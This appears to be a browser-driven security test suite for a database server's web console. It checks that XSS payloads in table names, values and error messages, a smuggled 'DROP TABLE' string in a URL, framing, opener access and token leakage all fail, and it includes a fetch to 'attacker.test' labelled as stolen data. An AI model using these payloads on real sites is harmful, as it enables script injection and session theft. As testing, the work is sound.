// Attacks on the console: names, values and errors that want to be HTML, frames, and stolen sessions.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { test } from "node:test";
import { asked, closed, opened, query, run, signedIn, withPage, ADDRESS, KEY } from "./page.mjs";

const IMAGE = '<img src=x onerror="window.attacked=1">';
const SCRIPT = "</script><script>window.attacked=1</script>";
const LINK = "javascript:window.attacked=1//";
const named = (name) => `"${name.replaceAll('"', '""')}"`;

const TABLE = `t ${IMAGE}`;
await asked("POST", "/v1/transaction", {
  statements: [
    `CREATE TABLE ${named(TABLE)} (id INT PRIMARY KEY, ${named(SCRIPT)} TEXT DEFAULT '${IMAGE}', ${named(LINK)} JSONB)`,
    `CREATE TABLE ${named(LINK)} (id INT PRIMARY KEY REFERENCES ${named(TABLE)})`,
    { sql: `INSERT INTO ${named(TABLE)} VALUES (1, $1, $2)`, params: [IMAGE + SCRIPT, { [IMAGE]: LINK }] },
    `INSERT INTO ${named(LINK)} VALUES (1)`,
  ],
});

async function unharmed(page) {
  assert.equal(await page.evaluate(() => window.attacked), undefined);
  const strange = await page.evaluate(() =>
    [...document.querySelectorAll("img, script:not([type=module]), iframe, [onerror], a[href^='javascript' i]")].map((each) => each.outerHTML),
  );
  assert.deepEqual(strange, []);
}

test("names and values never become HTML, in any part", withPage("sql", async (page) => {
  await run(page, `SELECT * FROM ${named(TABLE)}`);
  await page.locator(".grid-cell", { hasText: "onerror" }).first().dblclick();
  await page.getByRole("dialog").waitFor();
  await unharmed(page);
  await page.keyboard.press("Escape");
  for (const form of ["Chart", "JSON"]) await page.getByRole("button", { name: form }).click();
  await page.getByRole("button", { name: "Share" }).click();
  await unharmed(page);
  await page.keyboard.press("Escape");
  for (const part of ["data", `data/${encodeURIComponent(TABLE)}`, `data/${encodeURIComponent(TABLE)}/definition`, `data/${encodeURIComponent(LINK)}`, "time", "admin/databases"]) {
    await page.goto(`${ADDRESS}/console#/${part}`);
    await page.waitForLoadState("networkidle");
    await unharmed(page);
  }
}));

test("an error that quotes what was sent never becomes HTML", withPage("sql", async (page) => {
  await run(page, `SELECT '${IMAGE.replaceAll("'", "''")}'::int`);
  await page.locator(".error-box", { hasText: "onerror" }).waitFor();
  await unharmed(page);
  await page.getByRole("button", { name: "History" }).click();
  await page.getByText("onerror").first().waitFor();
  await unharmed(page);
}));

test("an address cannot run a statement or write into the page", withPage("sql", async (page) => {
  for (const place of [IMAGE, `data/${encodeURIComponent(IMAGE)}`, "__proto__", "admin/constructor", "data/%", `data/${encodeURIComponent(TABLE)}/rows/${encodeURIComponent('[{"column":"id","op":"; DROP TABLE x"}]')}`]) {
    await page.goto(`${ADDRESS}/console#/${place}`);
    await page.waitForLoadState("networkidle");
    await unharmed(page);
  }
  const { rows } = await query(`SELECT count(*) AS n FROM ${named(TABLE)}`);
  assert.equal(rows[0].n, 1);
}));

test("the browser refuses scripts, styles and HTML that code would add", async () => {
  const page = await signedIn("sql", { expected: [/Content Security Policy|TrustedHTML|TrustedScript|violates/i] });
  const refused = await page.evaluate(() => {
    const tried = {};
    const attempt = (name, work) => {
      try {
        work();
        tried[name] = "done";
      } catch (error) {
        tried[name] = error.name;
      }
    };
    attempt("html", () => (document.createElement("p").innerHTML = "<b>x</b>"));
    const script = document.createElement("script");
    attempt("script", () => (script.text = "window.attacked = 1"));
    document.body.append(script);
    return tried;
  });
  assert.deepEqual(refused, { html: "TypeError", script: "TypeError" });
  assert.equal(await page.evaluate(() => window.attacked), undefined);
  const sent = await page.evaluate(() => fetch("https://attacker.test/?stolen").then(() => "sent", () => "refused"));
  assert.equal(sent, "refused");
  await closed(page);
});

test("the page of the interface sends a request under a policy that lets in no other script", async () => {
  const page = await opened({ expected: [/Content Security Policy|TrustedHTML|violates/i] });
  await page.goto(`${ADDRESS}/docs`);
  await page.getByLabel(/API key/).fill(KEY);
  await page.locator("details#post_v1_query summary").click();
  await page.locator("details#post_v1_query").getByRole("button", { name: "Send" }).click();
  await page.getByText(/^200 OK/).waitFor();
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = "/client.js";
    script.onload = () => (window.attacked = 1);
    document.body.append(script);
  }).catch(() => {}); // the address of a script is no string to the browser
  const cursor = await page.locator("summary").first().evaluate((element) => getComputedStyle(element).cursor);
  assert.equal(cursor, "pointer");
  assert.equal(await page.evaluate(() => window.attacked), undefined);
  await page.context().close();
});

test("the console cannot be put into a frame, nor be reached through its opener", async () => {
  const server = createServer((_request, response) => {
    response.setHeader("content-type", "text/html");
    response.end(`<iframe src="${ADDRESS}/console"></iframe>`);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  const page = await opened({ expected: [/./] });
  await page.goto(`http://127.0.0.1:${server.address().port}/`);
  await page.waitForLoadState("networkidle");
  const shown = page.frames().filter((frame) => frame.url().startsWith(ADDRESS));
  for (const frame of shown) assert.equal(await frame.locator("input").count(), 0);
  const other = await page.evaluate(async (address) => {
    const popup = window.open(`${address}/console`);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    try {
      return popup === null || popup.closed ? "cut off" : String(popup.document.title);
    } catch (error) {
      return error.name;
    }
  }, ADDRESS);
  assert.ok(["cut off", "SecurityError"].includes(other), other);
  await page.context().close();
  server.close();
});

test("no other tab, cookie or storage holds the session", async () => {
  const page = await signedIn();
  const token = await page.evaluate(() => JSON.parse(sessionStorage["qserver.session"]).token);
  const second = await page.context().newPage();
  await second.goto(`${ADDRESS}/console`);
  await second.getByLabel("API key").waitFor();
  const seen = await second.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]));
  assert.ok(!seen.includes(token));
  assert.deepEqual(await page.context().cookies(), []);
  await page.goto(`${ADDRESS}/console#/admin/sessions`);
  await page.getByRole("row", { name: /yours/ }).waitFor();
  assert.ok(!(await page.content()).includes(token), "the page shows the token");
  await closed(page);
});
